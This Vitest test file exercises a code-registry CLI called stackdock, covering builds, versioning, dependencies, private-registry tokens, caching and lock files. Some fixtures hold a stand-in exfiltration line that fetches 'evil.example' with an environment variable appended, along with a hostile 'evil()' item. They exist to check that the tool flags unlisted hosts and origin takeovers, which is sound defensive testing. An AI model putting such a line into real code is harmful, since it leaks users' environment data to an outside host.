import { execFileSync, spawn } from "node:child_process"
import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { setTimeout as sleep } from "node:timers/promises"
import { fileURLToPath } from "node:url"
import { describe, expect, test, vi } from "vitest"
import { placeholder } from "../src/registry/environment.ts"
import { emptyProject, errorOf, folder, json, snapshot, stackdock, write } from "./command.ts"
import { serve, serveFolder } from "./serve.ts"

// Whole commands, many at once, on machines that are busy with others.
vi.setConfig({ testTimeout: 120_000 })

interface Box {
  version?: string
  content?: string
  needs?: readonly string[]
  meta?: Record<string, unknown>
}

/** The sources of a registry of small items, each one file: `~/src/stackdock/boxes/<name>.ts`. */
function sources(boxes: Readonly<Record<string, Box>>, files: Readonly<Record<string, string>> = {}): string {
  const items = Object.entries(boxes).map(([name, { version = "1.0.0", needs = [], meta = {} }]) => ({
    name,
    type: "registry:item",
    registryDependencies: needs,
    files: [{ path: `boxes/${name}.ts`, type: "registry:file", target: `~/src/stackdock/boxes/${name}.ts` }],
    meta: { stackdock: { version, ...meta } },
  }))
  const contents = Object.entries(boxes).map(([name, { content }]) => [
    `boxes/${name}.ts`,
    content ?? `export const ${name} = "${name}"\n`,
  ])
  return folder({
    ...Object.fromEntries(contents),
    ...files,
    "registry.json": JSON.stringify({ name: "boxes", homepage: "https://boxes.example", items }),
  })
}

async function built(boxes: Readonly<Record<string, Box>>, ...args: string[]): Promise<string> {
  const dir = sources(boxes)
  const outcome = await stackdock(["build", ...args], { cwd: dir })
  if (outcome.code !== 0) throw new Error(outcome.stderr)
  return join(dir, "r")
}

const add = (cwd: string, args: readonly string[], env: Record<string, string> = {}) =>
  stackdock(["add", "--yes", "--no-install", "--json", ...args], { cwd, env })

const copied = (cwd: string, name: string) =>
  readFileSync(join(cwd, `src/stackdock/boxes/${name}.ts`), "utf8")
const lockOf = (cwd: string) => JSON.parse(readFileSync(join(cwd, "stackdock.lock"), "utf8")).items

/** A project that knows registries by name. */
function projectWith(registries: Readonly<Record<string, unknown>>): string {
  const cwd = emptyProject()
  write(cwd, { "stackdock.json": JSON.stringify({ root: "src/stackdock", registries }) })
  return cwd
}

describe.concurrent("build", () => {
  test("keeps every version, and refuses to change one", async () => {
    const dir = sources({ box: {} })
    await stackdock(["build"], { cwd: dir })
    const first = snapshot(join(dir, "r"))
    expect(Object.keys(first)).toEqual(["box.json", "box@1.0.0.json", "registry.json"])
    expect(first["box@1.0.0.json"]).toBe(first["box.json"])

    write(dir, { "boxes/box.ts": "export const box = 2\n" })
    const refused = await stackdock(["build", "--json"], { cwd: dir })
    expect(refused.code).toBe(1)
    expect(errorOf(refused).message).toContain("raise its version")
    expect(snapshot(join(dir, "r"))).toEqual(first)

    const registry = readFileSync(join(dir, "registry.json"), "utf8")
    write(dir, { "registry.json": registry.replace("1.0.0", "1.1.0") })
    const raised = await stackdock(["build", "--json"], { cwd: dir })
    expect(json(raised)["written"]).toEqual(["box.json", "box@1.1.0.json", "registry.json"])
    expect(snapshot(join(dir, "r"))["box@1.0.0.json"]).toBe(first["box@1.0.0.json"])
  })

  test("finds what an item needs in its imports, and adds it", async () => {
    const content = [
      'import * as z from "zod"',
      'import { lid } from "./lid.ts"',
      'import type { AnyDock } from "../core/dock.ts"',
      'export const box = [z, lid] as AnyDock[] // import { left } from "left-pad"',
      "",
    ].join("\n")
    const dir = sources(
      { box: { content }, lid: {} },
      { "package.json": '{ "dependencies": { "zod": "^4.6.7" } }' },
    )
    const outcome = await stackdock(["build", "--json"], { cwd: dir })
    expect(json(outcome)).toMatchObject({
      warnings: [],
      added: ["@stackdock/core", "lid", "zod@^4.6.7"].map((dependency) => ({ item: "box", dependency })),
    })
    expect(JSON.parse(readFileSync(join(dir, "r/box.json"), "utf8"))).toMatchObject({
      dependencies: ["zod@^4.6.7"],
      registryDependencies: ["@stackdock/core", "lid"],
    })
  })

  test("warns of what nobody declared, and with --strict writes nothing", async () => {
    const content = [
      'import { pad } from "left-pad"',
      'import { help } from "./help.ts"',
      'import { gone } from "./gone.ts"',
      "export const box: any = [pad, help, gone, 'https://evil.example/collect', 'https://api.box.example']",
      "",
    ].join("\n")
    const meta = { hosts: ["api.box.example"] }
    const dir = sources({ box: { content, meta } }, { "boxes/help.ts": "export const help = 1\n" })
    const strict = await stackdock(["build", "--strict", "--json"], { cwd: dir })
    expect(strict.code).toBe(1)
    expect(readdirSync(dir)).not.toContain("r")
    const outcome = await stackdock(["build", "--json"], { cwd: dir })
    expect(outcome.code).toBe(0)
    const warnings = json(outcome)["warnings"] as { code: string; message: string }[]
    expect(warnings.map(({ code }) => code)).toEqual([
      "undeclared_import",
      "unlisted_file",
      "undeclared_import",
      "unlisted_host",
      "any",
    ])
    for (const [index, word] of ["left-pad", "boxes/help.ts", "./gone.ts", "evil.example"].entries()) {
      expect(warnings[index]?.message).toContain(word)
      expect(outcome.stderr).toContain(word)
    }
  })

  test("a bare name that only stackdock has is refused, with the name that means it", async () => {
    const outcome = await stackdock(["build", "--json"], { cwd: sources({ box: { needs: ["core"] } }) })
    expect(errorOf(outcome).message).toContain('"@stackdock/core"')
  })

  test("--watch builds the changed item alone, tells what is wrong until it is mended, and ends with Ctrl+C", async () => {
    const dir = sources({ box: {}, lid: {} })
    const bin = fileURLToPath(new URL("../dist/bin.js", import.meta.url))
    const child = spawn(process.execPath, [bin, "build", "--watch"], {
      cwd: dir,
      env: { ...process.env, NO_COLOR: "1" },
      stdio: ["ignore", "ignore", "pipe"],
    })
    let said = ""
    child.stderr.setEncoding("utf8").on("data", (text: string) => {
      said += text
    })
    const until = async (wanted: string) => {
      for (let tries = 0; !said.includes(wanted); tries++) {
        if (tries > 1000) throw new Error(`It never said ${wanted}, but: ${said}`)
        await sleep(10)
      }
    }
    await until("watching")
    // Editors write beside and rename.
    writeFileSync(join(dir, "boxes/new"), "export const box = 2\n")
    renameSync(join(dir, "boxes/new"), join(dir, "boxes/box.ts"))
    await until("Built box ")
    expect(JSON.parse(readFileSync(join(dir, "r/box.json"), "utf8")).files[0].content).toContain("= 2")
    expect(said).not.toContain("Built lid")
    const registry = JSON.parse(readFileSync(join(dir, "registry.json"), "utf8"))
    write(dir, { "registry.json": "{" })
    await until("not JSON")
    // Listed first, and written then, in a folder that is new.
    const late = { path: "late/late.ts", type: "registry:file", target: "~/src/stackdock/boxes/late.ts" }
    registry.items.push({ ...registry.items[0], name: "late", files: [late] })
    write(dir, { "registry.json": JSON.stringify(registry) })
    await until("late/late.ts: there is no such file")
    write(dir, { "late/late.ts": "export const late = 1\n" })
    await until("Built late")
    expect(readdirSync(join(dir, "r"))).toContain("late.json")
    child.kill("SIGINT")
    const code = await new Promise((resolve) => child.once("close", resolve))
    expect(code).toBe(0)
  })
})

describe.concurrent("an item can be named by", () => {
  test("the registry's short name, an address, a file, or a repository, each with what it needs", async () => {
    const registry = await built({ box: { needs: ["lid"] }, lid: {} })
    const home = await serveFolder(registry)
    const archive = archiveOf(sources({ box: { needs: ["lid"] }, lid: {} }))
    const asked: string[] = []
    const gitHub = await serve((request, response) => {
      asked.push(request.url ?? "")
      response.writeHead(200, { "content-type": "application/x-gzip" }).end(archive)
    })
    const env = { STACKDOCK_GITHUB_ARCHIVES: gitHub }
    const forms = [
      ["@acme/box", "@acme"],
      [`${home}/box.json`, home],
      ["./shop/r/box.json", "./shop/r"],
      ["acme/registry/box#v1.2/beta", "acme/registry#v1.2/beta"],
    ] as const
    const tryForm = async ([reference, origin]: readonly [string, string]) => {
      const cwd = projectWith({ "@acme": `${home}/{name}.json` })
      mkdirSync(join(cwd, "shop"))
      execFileSync("cp", ["-r", registry, join(cwd, "shop")])
      const outcome = await add(cwd, [reference], env)
      expect(outcome, reference).toMatchObject({ code: 0 })
      expect(copied(cwd, "box"), reference).toBe('export const box = "box"\n')
      expect(lockOf(cwd), reference).toMatchObject({
        box: { registry: origin, dependencies: ["lid"], requested: true },
        lid: { registry: origin, requested: false },
      })
      const viewed = await stackdock(["view", reference, "--json"], { cwd, env })
      expect(json(viewed)["name"], reference).toBe("box")
    }
    await Promise.all(forms.map(tryForm))
    expect(asked[0]).toBe("/acme/registry/tar.gz/v1.2/beta")
    const cwd = projectWith({ "@acme": `${home}/{name}.json` })
    const listed = await stackdock(["list", "--registry", "@acme", "--json"], { cwd })
    expect(JSON.parse(listed.stdout)).toMatchObject([{ name: "box" }, { name: "lid" }])
    const found = await stackdock(["search", "lid", "--registry", home, "--json"], { cwd })
    expect(JSON.parse(found.stdout)).toMatchObject([{ name: "lid" }])
  })

  test("its version, as long as the registry keeps it", async () => {
    const dir = sources({ box: { content: "export const box = 1\n" } })
    await stackdock(["build"], { cwd: dir })
    const registry = readFileSync(join(dir, "registry.json"), "utf8")
    write(dir, {
      "registry.json": registry.replace("1.0.0", "2.0.0"),
      "boxes/box.ts": "export const box = 2\n",
    })
    await stackdock(["build"], { cwd: dir })
    const from = ["--registry", join(dir, "r")]
    const [old, newest] = [emptyProject(), emptyProject()]
    await add(old, ["box@1.0.0", ...from])
    expect(copied(old, "box")).toContain("= 1")
    await add(newest, ["box", ...from])
    expect(copied(newest, "box")).toContain("= 2")
    const missing = await add(emptyProject(), ["box@3.0.0", ...from])
    expect(errorOf(missing)).toMatchObject({ code: "unknown_version", hint: "Its newest is 2.0.0." })
  })

  test.for([
    ["@nobody/box", "unknown_registry"],
    ["@Acme/box", "usage"],
    ["https://acme.example/box", "usage"],
    ["https://user:hunter2@acme.example/r/box.json", "registry_address"],
    ["https://acme.example/box?token=hunter2", "usage"],
    ["http://acme.example/r/box.json", "registry_address"],
    ["../nowhere/box.json", "registry_not_found"],
    ["acme/registry/", "usage"],
  ] as const)("nothing like %s, and no secret in it is repeated", async ([reference, code]) => {
    const cwd = emptyProject()
    const outcome = await add(cwd, [reference])
    expect(outcome.code).toBe(2)
    expect(errorOf(outcome).code).toBe(code)
    expect(outcome.stdout + outcome.stderr).not.toContain("hunter2")
    expect(Object.keys(snapshot(cwd))).toEqual(["package.json"])
  })

  test("a repository that is not there, or holds no registry, is told", async () => {
    const empty = archiveOf(folder({ "README.md": "" }))
    const gitHub = await serve((request, response) =>
      request.url?.includes("empty") ? response.end(empty) : response.writeHead(404).end(),
    )
    const env = { STACKDOCK_GITHUB_ARCHIVES: gitHub }
    expect(errorOf(await add(emptyProject(), ["acme/gone/box"], env)).code).toBe("registry_not_found")
    expect(errorOf(await add(emptyProject(), ["acme/empty/box"], env)).code).toBe("registry_malformed")
  })
})

describe.concurrent("a private registry", () => {
  const place = (home: string) => ({
    url: `${home}/{name}.json`,
    headers: { Authorization: `Bearer ${placeholder("BOX_TOKEN")}` },
    params: { key: placeholder("BOX_TOKEN") },
  })

  test("gets its token, which is written and shown nowhere", async () => {
    const registry = await built({ box: { needs: ["lid"] }, lid: {} })
    const home = await serveFolder(registry, ({ headers, url }) =>
      headers.authorization === "Bearer sesame" && url?.endsWith("?key=sesame") ? undefined : 401,
    )
    const cwd = projectWith({ "@acme": place(home) })
    const without = await add(cwd, ["@acme/box"])
    expect(errorOf(without)).toMatchObject({ code: "missing_token", variable: "BOX_TOKEN" })
    const wrong = await add(cwd, ["@acme/box"], { BOX_TOKEN: "open-wide" })
    expect(errorOf(wrong).message).toContain("401")
    const cache = folder({})
    const right = await add(cwd, ["@acme/box"], { BOX_TOKEN: "sesame", XDG_CACHE_HOME: cache })
    expect(right).toMatchObject({ code: 0 })
    const everything = JSON.stringify([snapshot(cwd), snapshot(cache), without, wrong, right])
    expect(everything).not.toMatch(/sesame|open-wide/)
    const offline = await add(projectWith({ "@acme": place(home) }), ["@acme/box", "--offline"], {
      XDG_CACHE_HOME: cache,
    })
    expect(offline).toMatchObject({ code: 0 })
  })

  test("that redirects elsewhere loses its token on the way", async () => {
    const registry = await built({ box: {} })
    const seen: string[] = []
    const elsewhere = await serveFolder(registry, ({ headers, url }) => {
      seen.push(`${headers.authorization ?? "no token"} ${url}`)
      return undefined
    })
    const home = await serve((request, response) => {
      const { pathname } = new URL(request.url ?? "", "http://x")
      response.writeHead(302, { location: elsewhere + pathname }).end()
    })
    const outcome = await add(projectWith({ "@acme": place(home) }), ["@acme/box"], { BOX_TOKEN: "sesame" })
    expect(outcome).toMatchObject({ code: 0 })
    expect(seen).toEqual(["no token /box.json"])
  })

  test("behind an error of the network keeps its token to itself", async () => {
    const cwd = projectWith({ "@acme": place("http://127.0.0.1:9") })
    for (const token of ["sesame", "sesame\nx: y", "sés"]) {
      const outcome = await add(cwd, ["@acme/box"], { BOX_TOKEN: token })
      expect(outcome.code).toBe(1)
      expect(outcome.stdout + outcome.stderr).not.toContain(token.slice(0, 3))
    }
  })
})

describe.concurrent("what an item needs", () => {
  test("is looked up where the item came from, and never elsewhere by a bare name", async () => {
    const registry = await built({ box: { needs: ["lid"] }, lid: {} })
    rmSync(join(registry, "lid.json"))
    const item = readFileSync(join(registry, "box.json"), "utf8")
    write(registry, { "box.json": item.replace('"lid"', '"schema"') })
    const outcome = await add(emptyProject(), ["box", "--registry", registry])
    expect(errorOf(outcome)).toMatchObject({ code: "unknown_item" })
    expect(errorOf(outcome).message).toContain('needs the item "schema"')
  })

  test("of stackdock's shared code is asked for by its full name, and comes bundled", async () => {
    const registry = await built({ box: { needs: ["@stackdock/schema"] } })
    const cwd = emptyProject()
    expect(await add(cwd, ["box", "--registry", registry])).toMatchObject({ code: 0 })
    expect(lockOf(cwd)).toMatchObject({ schema: { registry: "bundled" }, box: { dependencies: ["schema"] } })
  })

  test("cannot take the place of what another registry brought", async () => {
    const cwd = emptyProject()
    await add(cwd, ["schema"])
    const before = snapshot(cwd)
    const registry = await built({ box: { needs: ["schema"] }, schema: { content: "evil()\n" } })
    const outcome = await add(cwd, ["box", "--registry", registry])
    expect(outcome.code).toBe(3)
    expect(errorOf(outcome)).toMatchObject({ code: "other_origin", item: "schema" })
    expect(snapshot(cwd)).toEqual(before)
    const both = await add(emptyProject(), ["schema", `${registry}/box.json`])
    expect(errorOf(both)).toMatchObject({ code: "two_origins", item: "schema" })
  })

  test("by address below the registry's own comes from wherever the registry was read", async () => {
    const url = "https://boxes.example/r"
    const registry = await built({ box: { needs: ["lid"] }, lid: {} }, "--url", url)
    const { registryDependencies } = JSON.parse(readFileSync(join(registry, "box.json"), "utf8"))
    expect(registryDependencies).toEqual([`${url}/lid.json`])
    const cwd = emptyProject()
    expect(await add(cwd, ["box", "--registry", registry])).toMatchObject({ code: 0 })
    expect(lockOf(cwd)["lid"].registry).toBe(lockOf(cwd)["box"].registry)
  })
})

describe.concurrent("what was read over a network", () => {
  test("is asked for again only when it changed, and is there without a network", async () => {
    const registry = await built({ box: {} })
    let isOnline = true
    const answers: number[] = []
    const home = await serve((request, response) => {
      if (!isOnline) return void request.socket.destroy()
      const isKnown = request.headers["if-none-match"] === '"1"'
      answers.push(isKnown ? 304 : 200)
      response.writeHead(isKnown ? 304 : 200, { etag: '"1"', "content-type": "application/json" })
      response.end(isKnown ? undefined : readFileSync(join(registry, request.url ?? "")))
    })
    const cache = folder({})
    const env = { XDG_CACHE_HOME: cache }
    const from = ["box", "--registry", home]
    const never = await add(emptyProject(), [...from, "--offline"], env)
    expect(errorOf(never).code).toBe("not_cached")
    for (let run = 0; run < 2; run++) expect(await add(emptyProject(), from, env)).toMatchObject({ code: 0 })
    expect(answers).toEqual([200, 304])

    isOnline = false
    expect(errorOf(await add(emptyProject(), from, env)).hint).toContain("--offline")
    const cwd = emptyProject()
    expect(await add(cwd, [...from, "--offline"], env)).toMatchObject({ code: 0 })
    expect(copied(cwd, "box")).toBe('export const box = "box"\n')

    const [entry = ""] = readdirSync(join(cache, "stackdock/registry"))
    writeFileSync(join(cache, "stackdock/registry", entry), '{"sha256":"half')
    expect(errorOf(await add(emptyProject(), [...from, "--offline"], env)).code).toBe("not_cached")
    isOnline = true
    expect(await add(emptyProject(), from, env)).toMatchObject({ code: 0 })
    expect(answers).toEqual([200, 304, 200])
  })

  test("is kept whole when several commands keep it at once, and in no more than one place", async () => {
    const content = `export const box = "${"x".repeat(200_000)}"\n`
    const home = await serveFolder(await built({ box: { content } }))
    const env = { XDG_CACHE_HOME: folder({}) }
    const adds = await Promise.all([1, 2, 3].map(() => add(emptyProject(), ["box", "--registry", home], env)))
    expect(adds.map(({ code }) => code)).toEqual([0, 0, 0])
    expect(readdirSync(join(env.XDG_CACHE_HOME, "stackdock/registry"))).toHaveLength(1)
    const cwd = emptyProject()
    await add(cwd, ["box", "--registry", home, "--offline"], env)
    expect(copied(cwd, "box")).toBe(content)
  })
})

test("--frozen restores what the lock says and refuses everything that would change it", async () => {
  const registry = await built({ box: {}, lid: {} })
  const cwd = emptyProject()
  const from = ["--registry", registry]
  await add(cwd, ["box", ...from])
  const before = snapshot(cwd)
  rmSync(join(cwd, "src/stackdock/boxes/box.ts"))
  expect(await add(cwd, ["box", "--frozen", ...from])).toMatchObject({ code: 0 })
  expect(snapshot(cwd)).toEqual(before)
  const refused = await add(cwd, ["lid", "--frozen", ...from])
  expect(refused.code).toBe(1)
  expect(errorOf(refused).code).toBe("frozen")
  expect(snapshot(cwd)).toEqual(before)
})

test("the plan shows whom the code calls, also when the item does not say so, and which variables it reads", async () => {
  const content = 'fetch("https://evil.example/?" + process.env.HOME_ADDRESS + "https://api.box.example")\n'
  const registry = await built({
    box: { content, meta: { hosts: ["api.box.example"], links: ["box.example"] } },
  })
  const outcome = await add(emptyProject(), ["box", "--dry-run", "--registry", registry])
  expect(outcome.stderr).toMatch(/calls +api\.box\.example\n/)
  expect(outcome.stderr).toMatch(/links to +box\.example\n/)
  expect(outcome.stderr).toMatch(/reads +HOME_ADDRESS\n/)
  expect(outcome.stderr).toContain("src/stackdock/boxes/box.ts names the host evil.example")
  expect(json(outcome)).toMatchObject({
    variables: ["HOME_ADDRESS"],
    unlistedHosts: [{ host: "evil.example" }],
  })
})

describe.concurrent("registry", () => {
  const registry = (cwd: string, ...args: string[]) => stackdock(["registry", ...args, "--json"], { cwd })

  test("add, list and remove keep the rest of stackdock.json, and its formatting", async () => {
    const cwd = emptyProject()
    write(cwd, { "stackdock.json": '{\n\t"$schema": "s",\n\t"root": "src/stackdock"\n}\n' })
    const before = snapshot(cwd)
    const header = `Authorization: Bearer ${placeholder("BOX_TOKEN")}`
    const adding = ["add", "@acme=https://acme.example/r", "--offline", "--header", header]
    expect(await registry(cwd, ...adding, "--dry-run")).toMatchObject({ code: 0 })
    expect(snapshot(cwd)).toEqual(before)
    expect(await registry(cwd, ...adding)).toMatchObject({ code: 3 })
    expect(await registry(cwd, ...adding, "--yes")).toMatchObject({ code: 0 })
    expect(readFileSync(join(cwd, "stackdock.json"), "utf8")).toMatch(/^\{\n\t"\$schema": "s",\n\t"root"/)
    await registry(cwd, "add", "@near=../near/r", "--offline", "--yes")
    expect(JSON.parse((await registry(cwd, "list")).stdout)).toEqual([
      {
        name: "@acme",
        url: "https://acme.example/r/{name}.json",
        headers: { Authorization: `Bearer ${placeholder("BOX_TOKEN")}` },
        missing: ["BOX_TOKEN"],
      },
      { name: "@near", url: "../near/r", missing: [] },
    ])
    await registry(cwd, "remove", "@acme", "@near", "--yes")
    expect(snapshot(cwd)).toEqual(before)
  })

  test("a token that the shell filled in already is refused, and written and shown nowhere", async () => {
    const cwd = projectWith({})
    const before = snapshot(cwd)
    const adding = ["add", "@acme=https://acme.example/r", "--header", "Authorization: Bearer hunter2"]
    const outcome = await registry(cwd, ...adding, "--offline", "--yes")
    expect(outcome.code).toBe(2)
    expect(errorOf(outcome).message).toContain("looks like a secret")
    expect(outcome.stdout + outcome.stderr).not.toContain("hunter2")
    expect(snapshot(cwd)).toEqual(before)
  })
})

/** As GitHub makes it: one folder around everything. */
function archiveOf(dir: string): Buffer {
  const name = "registry-0123456"
  const parent = folder({})
  execFileSync("cp", ["-r", dir, join(parent, name)])
  return execFileSync("tar", ["-czf", "-", name], { cwd: dirname(join(parent, name)) })
}
